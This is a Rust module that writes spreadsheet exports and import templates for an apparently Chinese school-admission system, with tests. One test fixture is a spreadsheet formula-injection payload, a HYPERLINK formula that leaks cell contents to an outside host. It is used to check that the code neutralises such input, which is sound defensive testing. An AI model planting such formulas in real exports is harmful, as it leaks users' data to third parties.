use rust_xlsxwriter::{ExcelDateTime, Format, Worksheet};

use super::cell::{neutralise, width, Cell};
use super::Title;

pub const XLSX_MIME: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The one writer of every spreadsheet the system hands out: a one-sheet
/// workbook written row by row from typed [`Cell`]s. Numbers are numeric
/// cells, IDs are text cells, no text can start a formula, columns are as
/// wide as their Chinese text and the header stays in view when scrolling.
pub struct Workbook {
    book: rust_xlsxwriter::Workbook,
    widths: Vec<usize>,
    next_row: u32,
    formats: Formats,
    /// The sheet rows are written to (the last one added).
    current: usize,
}

/// Number formats, made once per workbook.
struct Formats {
    id: Format,
    money: Format,
    percent: Format,
    date: Format,
}

impl Workbook {
    /// A blank import template: the header in row 1 and nothing above it.
    pub fn template(sheet: &str, headers: &[&str]) -> Workbook {
        Workbook::start(sheet, None, headers)
    }

    /// An export: the title row (what, which filter, when), the header under
    /// it, then the records. Our importer skips the title row, so an export
    /// in an import layout can be edited and imported back.
    pub fn export(title: &Title, headers: &[&str]) -> Workbook {
        Workbook::start(title.name(), Some(title.text()), headers)
    }

    fn start(sheet: &str, title: Option<String>, headers: &[&str]) -> Workbook {
        let mut book = rust_xlsxwriter::Workbook::new();
        let ws = book.add_worksheet();
        // Sheet names are limited to 31 characters by Excel.
        let _ = ws.set_name(sheet.chars().take(31).collect::<String>());
        let mut header_row = 0;
        if let Some(t) = title {
            let bold = Format::new().set_bold().set_font_size(12);
            // Unmerged, so the text runs on over the empty cells beside it and
            // does not widen the first column.
            let _ = ws.write_string_with_format(0, 0, neutralise(&t), &bold);
            header_row = 1;
        }
        header(ws, header_row, headers);
        Workbook {
            book,
            widths: headers.iter().map(|h| width(h)).collect(),
            next_row: header_row + 1,
            formats: Formats {
                id: Format::new().set_num_format("@"),
                money: Format::new().set_num_format("#,##0.00"),
                percent: Format::new().set_num_format("0.00%"),
                date: Format::new().set_num_format("yyyy-mm-dd"),
            },
            current: 0,
        }
    }

    /// Adds another sheet with its header in row 1 (a workbook of a list
    /// and its settings); the rows that follow go there.
    pub fn add_sheet(&mut self, sheet: &str, headers: &[&str]) -> anyhow::Result<()> {
        self.set_widths()?;
        let ws = self.book.add_worksheet();
        ws.set_name(sheet.chars().take(31).collect::<String>())?;
        header(ws, 0, headers);
        self.current += 1;
        self.widths = headers.iter().map(|h| width(h)).collect();
        self.next_row = 1;
        Ok(())
    }

    pub fn sheet(&mut self) -> &mut Worksheet {
        self.book
            .worksheet_from_index(self.current)
            .expect("the workbook has its sheet")
    }

    pub fn row(&mut self, cells: &[Cell<'_>]) -> anyhow::Result<()> {
        let r = self.next_row;
        for (i, c) in cells.iter().enumerate() {
            if let Some(w) = self.widths.get_mut(i) {
                *w = (*w).max(c.width());
            }
            self.write(r, i as u16, c)?;
        }
        self.next_row += 1;
        Ok(())
    }

    fn write(&mut self, r: u32, col: u16, c: &Cell<'_>) -> anyhow::Result<()> {
        let Workbook {
            book,
            formats,
            current,
            ..
        } = self;
        let ws = book.worksheet_from_index(*current)?;
        match c {
            Cell::Blank => {}
            Cell::Text(s) | Cell::Id(s) if s.is_empty() => {}
            Cell::Text(s) => {
                ws.write_string(r, col, neutralise(s))?;
            }
            Cell::Id(s) => {
                ws.write_string_with_format(r, col, neutralise(s), &formats.id)?;
            }
            Cell::Int(n) => {
                ws.write_number(r, col, *n as f64)?;
            }
            Cell::Yuan(fen) => {
                ws.write_number_with_format(r, col, *fen as f64 / 100.0, &formats.money)?;
            }
            Cell::Wan(fen) => {
                ws.write_number_with_format(r, col, *fen as f64 / 1_000_000.0, &formats.money)?;
            }
            Cell::Percent(hundredths) => {
                let rate = *hundredths as f64 / 10_000.0;
                ws.write_number_with_format(r, col, rate, &formats.percent)?;
            }
            Cell::Date(d) => {
                use chrono::Datelike;
                let day = ExcelDateTime::from_ymd(d.year() as u16, d.month() as u8, d.day() as u8)?;
                ws.write_datetime_with_format(r, col, &day, &formats.date)?;
            }
        }
        Ok(())
    }

    fn set_widths(&mut self) -> anyhow::Result<()> {
        let widths = std::mem::take(&mut self.widths);
        for (i, w) in widths.into_iter().enumerate() {
            self.sheet()
                .set_column_width(i as u16, (w.min(60) + 2) as f64)?;
        }
        Ok(())
    }

    pub fn finish(mut self) -> anyhow::Result<Vec<u8>> {
        self.set_widths()?;
        Ok(self.book.save_to_buffer()?)
    }
}

/// The header row `row`, bold on blue, kept in view when scrolling.
fn header(ws: &mut Worksheet, row: u32, headers: &[&str]) {
    let head = Format::new().set_bold().set_background_color("#DCE6F1");
    for (i, h) in headers.iter().enumerate() {
        let _ = ws.write_string_with_format(row, i as u16, neutralise(h), &head);
    }
    let _ = ws.set_freeze_panes(row + 1, 0);
}

#[cfg(test)]
mod tests {
    use super::*;
    use calamine::{Data, Reader, Xlsx};
    use chrono::NaiveDate;
    use std::io::{Cursor, Read};

    const ID: &str = "33050320150315001X";
    const ATTACK: &str = "=HYPERLINK(\"http://x.cn/?\"&A1,\"点我\")";

    fn export() -> Vec<u8> {
        let title = Title::list("录取名单").filter("招生批次", "城区小学");
        let mut wb = Workbook::export(
            &title,
            &[
                "姓名",
                "身份证件号",
                "人数",
                "金额（元）",
                "入学率",
                "出生日期",
            ],
        );
        let born = NaiveDate::from_ymd_opt(2015, 3, 15).expect("date");
        wb.row(&[
            Cell::text(ATTACK),
            Cell::id(ID),
            Cell::Int(2866),
            Cell::Yuan(184_600_050),
            Cell::Percent(9882),
            Cell::Date(born),
        ])
        .expect("row");
        wb.row(&[
            Cell::text("张三"),
            Cell::id("330503201503150011"),
            Cell::Blank,
        ])
        .expect("row");
        wb.finish().expect("xlsx")
    }

    fn cells(bytes: &[u8]) -> calamine::Range<Data> {
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("xlsx");
        book.worksheet_range("录取名单").expect("sheet")
    }

    #[test]
    fn numbers_are_numbers_and_ids_keep_every_digit() {
        let r = cells(&export());
        assert_eq!(r.get_value((2, 2)), Some(&Data::Float(2866.0)));
        assert_eq!(r.get_value((2, 3)), Some(&Data::Float(1_846_000.5)));
        assert_eq!(r.get_value((2, 4)), Some(&Data::Float(0.9882)));
        assert!(matches!(r.get_value((2, 5)), Some(Data::DateTime(_))));
        assert_eq!(r.get_value((2, 1)), Some(&Data::String(ID.into())));
        assert_eq!(
            r.get_value((3, 1)),
            Some(&Data::String("330503201503150011".into()))
        );
        assert!(matches!(r.get_value((3, 2)), None | Some(Data::Empty)));
    }

    #[test]
    fn text_that_would_be_a_formula_is_neutralised() {
        let r = cells(&export());
        assert_eq!(
            r.get_value((2, 0)),
            Some(&Data::String(format!("'{ATTACK}")))
        );
        // Our importer gives back what was written.
        let t = crate::excel::read_table(&export(), "x.xlsx", None).expect("readable");
        assert_eq!(t.rows[0].cells[0], ATTACK);
        assert_eq!(t.rows[0].cells[2], "2866");
        assert_eq!(t.rows[0].cells[5], "2015-03-15");
    }

    #[test]
    fn a_title_row_above_a_frozen_header() {
        let bytes = export();
        let r = cells(&bytes);
        let Some(Data::String(title)) = r.get_value((0, 0)) else {
            panic!("no title")
        };
        assert!(
            title.starts_with("录取名单　筛选条件：招生批次：城区小学　生成时间："),
            "{title}"
        );
        assert!(title.ends_with("（北京时间）"), "{title}");
        assert_eq!(r.get_value((1, 0)), Some(&Data::String("姓名".into())));
        let xml = sheet_xml(&bytes);
        assert!(xml.contains(r#"ySplit="2" topLeftCell="A3""#), "{xml}");
        // The importer finds the header under the title, at Excel's row 2.
        let t = crate::excel::read_table(&bytes, "x.xlsx", None).expect("readable");
        assert_eq!(t.header_row, 2);
        assert_eq!(t.headers[0], "姓名");
        assert_eq!(t.rows[0].number, 3);
    }

    #[test]
    fn a_template_has_its_header_in_row_one() {
        let mut wb = Workbook::template("机构", &["名称", "代码"]);
        wb.row(&["实验小学".into(), Cell::id("3305030001")])
            .expect("row");
        let bytes = wb.finish().expect("xlsx");
        assert!(sheet_xml(&bytes).contains(r#"ySplit="1" topLeftCell="A2""#));
        let table = crate::excel::read_table(&bytes, "x.xlsx", None).expect("readable");
        assert_eq!(table.headers, vec!["名称", "代码"]);
        assert_eq!(table.rows[0].cells, vec!["实验小学", "3305030001"]);
        assert_eq!(table.rows[0].number, 2);
    }

    fn sheet_xml(bytes: &[u8]) -> String {
        let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("zip");
        let mut xml = String::new();
        zip.by_name("xl/worksheets/sheet1.xml")
            .expect("sheet")
            .read_to_string(&mut xml)
            .expect("xml");
        xml
    }
}
